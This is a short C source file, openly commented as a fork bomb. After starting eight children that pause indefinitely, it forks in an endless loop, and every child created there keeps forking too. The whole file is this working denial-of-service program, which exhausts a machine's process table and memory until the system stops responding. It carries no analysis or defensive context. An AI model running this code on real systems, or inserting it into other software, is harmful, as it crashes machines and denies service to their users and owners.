/* Fork bomb: a few children that pause, then fork forever (and spin when forks fail). */
#include <unistd.h>
int main(void) {
    for (int i = 0; i < 8; i++) if (fork() == 0) for (;;) pause();
    for (;;) fork();
}
